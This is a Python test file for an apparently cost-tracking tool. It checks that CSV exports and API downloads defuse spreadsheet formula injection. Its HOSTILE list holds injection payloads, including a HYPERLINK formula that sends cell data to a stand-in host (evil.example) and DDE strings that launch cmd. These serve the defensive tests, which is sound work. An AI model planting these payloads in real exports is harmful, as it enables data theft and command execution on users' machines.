"""CSV injection: text someone else chose (model names, tags, projects) never reaches a spreadsheet as a formula,
in the CLI export (CSV and FOCUS), `--csv`, and the API's CSV downloads; numbers, negative ones included, stay
numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from typer.testing import CliRunner

from creditgauge.cli import app as cli
from creditgauge.config import parse_config
from creditgauge.csv_safety import neutralise
from creditgauge.web import create_app

CONFIG = parse_config({"accounts": {"openai-main": {"provider": "openai"}}}, None)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_starts_get_an_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.25", "+3", "-1E+3", ".5", "gpt-4o", "", "a=b", 12, None])
def test_numbers_and_plain_text_are_left_alone(cell: object) -> None:
    assert neutralise(cell) == cell


@pytest.fixture
def hostile_store(engine: Engine) -> Engine:
    events = [{"id": f"h{n}", "account": "openai-main", "ts": "2026-11-20T12:00:00Z", "model": model,
               "input_tokens": 10, "output_tokens": 5, "tags": {"team": model}} for n, model in enumerate(HOSTILE)]
    with TestClient(create_app(CONFIG, engine, scheduler=False), base_url="http://127.0.0.1") as client:
        assert client.post("/api/v1/events", json=events).status_code == 200
    return engine


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(written: str) -> None:
    cells = _cells(written)
    for hostile in {text.strip() for text in HOSTILE}:  # ingest strips the tab and CR, leaving "=1+1"
        assert hostile not in cells
        assert "'" + hostile in cells or any(cell.startswith("{") and hostile[1:4] in cell for cell in cells)
    assert all(not cell.startswith(("=", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("fmt", ["csv", "focus"])
def test_cli_export_neutralises_every_cell(hostile_store: Engine, fmt: str, tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    result = CliRunner().invoke(cli, ["export", "--format", fmt, "--source", "tracked", "--since", "2026-11-01",
                                      "--until", "2026-11-30", "--output", str(target)],
                                env={"CREDITGAUGE_DATABASE_URL": hostile_store.url.render_as_string(False)})
    assert result.exit_code == 0, result.output
    _assert_no_formula(target.read_text())


def test_cli_csv_reports_neutralise_every_cell(hostile_store: Engine) -> None:
    result = CliRunner().invoke(cli, ["spend", "--since", "2026-11-01", "--until", "2026-11-30", "--source",
                                      "tracked", "--by", "model", "--csv"],
                                env={"CREDITGAUGE_DATABASE_URL": hostile_store.url.render_as_string(False)})
    assert result.exit_code == 0, result.output
    _assert_no_formula(result.output)


@pytest.mark.parametrize("path", ["/api/v1/spend", "/api/v1/usage"])
def test_api_csv_downloads_neutralise_every_cell(hostile_store: Engine, path: str) -> None:
    with TestClient(create_app(CONFIG, hostile_store, scheduler=False), base_url="http://127.0.0.1") as client:
        answer = client.get(path, params={"since": "2026-11-01", "until": "2026-11-30", "source": "tracked",
                                          "by": "model", "format": "csv"})
    assert answer.status_code == 200, answer.text
    _assert_no_formula(answer.text)
